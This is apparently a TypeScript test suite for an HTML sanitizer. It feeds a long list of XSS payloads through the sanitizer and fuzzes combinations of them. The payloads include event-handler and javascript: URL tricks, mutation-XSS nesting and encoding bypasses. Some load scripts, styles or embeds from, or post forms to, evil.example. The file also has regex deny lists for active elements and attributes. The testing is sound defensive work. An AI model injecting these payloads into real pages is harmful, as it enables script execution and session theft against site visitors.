/** Attacks on whoever looks at a page by an author who may not write active content. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import * as fc from 'fast-check';

import { sanitizeHtml } from '../../../server/content/sanitize.js';
import { randomRuns } from '../../support/random.js';

const ELEMENTS =
  /^<\/?(?:script|style|iframe|frame|object|embed|applet|portal|svg|math|template|form|input|button|select|textarea|base|link|meta|noscript|xmp|plaintext)\b/i;
const ATTRIBUTES =
  /^(?:on.*|style|srcdoc|formaction|action|ping|background|poster|xlink:href|form)$/i;
const ADDRESSES = /^[\s\p{Cc}]*(?:javascript|vbscript|livescript|data|file|blob)[\s\p{Cc}]*:/iu;
const ADDRESS_ATTRIBUTES = /^(?:href|src|srcset|cite)$/i;

/** Checks that nothing of a page is active, tag by tag, as a browser would read it. */
function assertInert(html: string): void {
  const clean = sanitizeHtml(html);
  for (const tag of clean.match(/<[^>]*>?/g) ?? []) {
    const message = `${html}\nbecame\n${clean}`;
    assert.match(tag, /^<\/?[a-z][a-z\d]*(?: [a-z-]+(?:="[^"<>]*")?)*(?: \/)?>$/, message);
    assert.doesNotMatch(tag, ELEMENTS, message);
    for (const [, name = '', value = ''] of tag.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
      assert.doesNotMatch(name, ATTRIBUTES, message);
      if (ADDRESS_ATTRIBUTES.test(name)) assert.doesNotMatch(value, ADDRESSES, message);
    }
  }
  assert.equal(sanitizeHtml(clean), clean, 'a clean page stays as it is');
}

const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img src=`x` onerror=`alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)" ONCLICK=alert(1)>x</div>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="/x" ping="//evil.example">x</a>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><a id="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<select><option><script>alert(1)</script></option></select>',
  '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<object data="javascript:alert(1)"><param name=x></object>',
  '<embed src="//evil.example/x.swf">',
  '<template><script>alert(1)</script></template>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"; p { background: url(//evil.example) }</style>',
  '<p style="background: url(//evil.example)">x</p>',
  '<p style="position: fixed; inset: 0">x</p>',
  '<form action="//evil.example" method=post><input name=q><button>x</button></form>',
  '<form action="/@api/permissions" method=post><button>x</button></form>',
  '<button form="search" formaction="/@api/pack">x</button>',
  '<input type=image src=x formaction="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<video poster="javascript:alert(1)" onloadstart=alert(1) src=x></video>',
  '<img srcset="javascript:alert(1) 1x, /x.png 2x">',
  '<a title="x" href="/a" <script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '<p title="a>b" onclick="alert(1)">x</p>',
];

describe('a page by an author who may not write active content', () => {
  for (const attack of ATTACKS) {
    test(`is inert: ${JSON.stringify(attack)}`, () => assertInert(attack));
  }

  test('is inert however its pieces are put together', () => {
    const pieces = ATTACKS.flatMap((attack) => attack.split(/(?=[<>"'= /])/));
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...new Set(pieces)), { maxLength: 20 }), (chosen) =>
        assertInert(chosen.join('')),
      ),
      randomRuns(300),
    );
  });

  test('keeps structure, classes, links and images', () => {
    const page =
      '<main class="wide"><h1 id="top">A</h1><ul><li>b <a href="https://example.org/?a=1&amp;b=2">c</a></li>' +
      '<li><a href="../d">e</a> <a href="mailto:f@example.org">g</a></li></ul>' +
      '<figure><img src="/h.png" alt="i" /><figcaption>j</figcaption></figure></main>';
    assert.equal(sanitizeHtml(page), page);
  });
});
